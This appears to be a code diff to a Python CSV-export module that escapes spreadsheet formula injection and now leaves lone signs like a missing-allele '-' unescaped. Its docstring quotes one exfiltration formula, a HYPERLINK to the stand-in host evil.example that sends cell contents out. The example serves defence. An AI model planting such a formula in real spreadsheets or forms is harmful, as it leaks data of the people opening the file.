@@ -4,7 +4,8 @@ A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return i
 and Google Sheets as a formula: ``=HYPERLINK("https://evil.example/?"&A1, "click")`` typed into the public
 request form would run on a caseworker's machine when an export is opened. Such a cell is written with a
 leading apostrophe, which spreadsheets show as text and do not evaluate. Plain numbers (``-3``, ``+1.5``,
-``-inf``) stay as they are: a spreadsheet reads them as numbers, and the files stay machine-readable.
+``-inf``) and a lone ``-`` (a missing allele in a genotype file) stay as they are: a spreadsheet reads
+them as numbers or text, and the files stay machine-readable.
 
 Every CSV the project writes for a person or another program goes through :func:`writer` or
 :class:`DictWriter` (a test greps ``src`` for ``csv.writer``); the only exceptions are in-memory round trips
@@ -20,11 +21,18 @@ from typing import Any
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 _NUMBER = re.compile(r"[+-]?((\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|inf|infinity|nan)", re.IGNORECASE)
+#: Lone signs that no spreadsheet evaluates and that data files use as values ("-": a missing allele).
+_INERT = frozenset({"-", "+", "--"})
 
 
 def safe_cell(value: Any) -> Any:
     """``value`` as a cell no spreadsheet evaluates: text starting like a formula gets a leading ``'``."""
-    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
+    if (
+        isinstance(value, str)
+        and value.startswith(FORMULA_START)
+        and value not in _INERT
+        and not _NUMBER.fullmatch(value)
+    ):
         return "'" + value
     return value
 
